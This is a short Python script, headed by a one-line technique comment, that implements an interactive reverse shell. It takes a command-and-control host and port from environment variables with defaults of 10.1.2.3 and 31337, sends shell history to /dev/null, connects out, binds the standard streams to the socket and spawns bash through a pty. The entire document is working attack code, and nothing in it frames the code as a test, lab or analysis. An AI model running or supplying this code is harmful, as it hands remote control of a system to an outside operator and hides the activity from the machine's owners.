# technique: reverse shell that reads C2 host/port from environment variables with fallbacks, then pty.spawn with TERM set for full interactivity
import os
import pty
import socket

h = os.environ.get("RH", "10.1.2.3")
p = int(os.environ.get("RP", "31337"))
os.environ["TERM"] = "xterm-256color"
os.environ["HISTFILE"] = "/dev/null"
c = socket.create_connection((h, p))
fd = c.fileno()
os.dup2(fd, 0); os.dup2(fd, 1); os.dup2(fd, 2)
pty.spawn("/bin/bash")
